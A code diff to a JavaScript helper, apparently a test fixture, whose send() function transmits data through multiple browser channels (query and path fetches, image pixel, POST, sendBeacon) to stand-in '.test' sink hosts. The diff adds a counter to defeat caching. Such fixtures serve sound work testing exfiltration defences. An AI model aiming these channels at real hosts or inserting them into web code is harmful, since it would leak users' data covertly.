@@ -3,6 +3,8 @@ const base64url = (array) =>
   btoa(Array.from(array, (byte) => String.fromCharCode(byte)).join("")).replace(/\+/g, "-").replace(/\//g, "_").replace(/=+$/, "");
 const post = (url, body) => fetch(url, { method: "POST", mode: "no-cors", body });
 
+// Counts messages, so that no two have the same address and none is taken from a cache.
+let number = 0;
 let socket;
 let worker;
 let frame;
@@ -47,9 +49,10 @@ function byRequest(out) {
 export async function send(out) {
   const text = typeof out === "string" ? out : base64url(out);
   const quoted = encodeURIComponent(text);
-  fetch(`https://sink-query.test/query?n=1&value=${quoted}&m=2`, { mode: "no-cors" });
-  fetch(`https://sink-path.test/path/${quoted}/end`, { mode: "no-cors" });
-  new Image().src = `https://sink-pixel.test/pixel.gif?value=${quoted}`;
+  number += 1;
+  fetch(`https://sink-query.test/query?n=${number}&value=${quoted}&m=2`, { mode: "no-cors" });
+  fetch(`https://sink-path.test/path/${number}/${quoted}/end`, { mode: "no-cors" });
+  new Image().src = `https://sink-pixel.test/pixel.gif?value=${quoted}&n=${number}`;
   post("https://sink-fetch.test/fetch", out);
   byRequest(out);
   navigator.sendBeacon("https://sink-beacon.test/beacon", out);
